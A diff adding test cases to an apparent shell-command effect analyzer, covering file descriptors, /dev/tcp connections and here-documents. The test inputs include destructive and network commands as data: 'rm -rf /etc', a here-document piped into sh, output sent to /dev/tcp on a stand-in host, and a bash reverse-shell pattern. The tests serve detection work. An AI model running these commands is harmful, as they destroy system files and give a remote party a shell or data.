@@ -70,6 +70,8 @@ describe('descriptors', () => {
     ['a free number beside a writer', "exec {a}> x {b}<<< 'rm -rf /etc'; sh <&$b", ['write x', 'delete /etc']],
     ['written to what is only known at run time', 'echo a >&$X', ['unknown: writes `$X`, a path only known at run time']],
     ['written to a file by name', 'echo a >& x.txt', ['write x.txt']],
+    ['an input of another number', 'echo a | xargs rm 3<&9', ['delete a']],
+    ['a file whose name starts with a number', 'echo a >& 2x.txt', ['write 2x.txt']],
   ])('%s', (_name, commandLine, expected) => {
     expect(effectLines(commandLine, machine)).toEqual(expected)
   })
@@ -172,6 +174,11 @@ describe('connections of the shell itself', () => {
       ],
     ],
     [
+      'written twice',
+      'echo hi > /dev/tcp/x.example/80 2> /dev/tcp/x.example/81',
+      ['connect:tunnel x.example:80', 'connect:tunnel x.example:81', 'send:data /dev/tcp'],
+    ],
+    [
       'two of them',
       'bash < /dev/tcp/x.example/80 > /dev/tcp/x.example/80',
       [
@@ -229,6 +236,10 @@ describe('here-documents', () => {
         'unknown: deletes `$X/`, a path only known at run time',
       ],
     ],
+    ['without an end', 'cat <<EOF', ['unknown: a here-document has no end']],
+    ['its lines in a variable', 'X=$(cat <<EOF\na\nEOF\n); rm "$X"', ['delete a']],
+    ['a here-string has a line end', 'X=$(cat <<< a; echo b); rm "$X"', ['delete a\nb']],
+    ['more tabs in front', "cat <<-'EOF' | sh\n\t\t\trm -rf /etc\n\tEOF", ['delete /etc']],
   ])('%s', (_name, commandLine, expected) => {
     expect(effectLines(commandLine, machine)).toEqual(expected)
   })
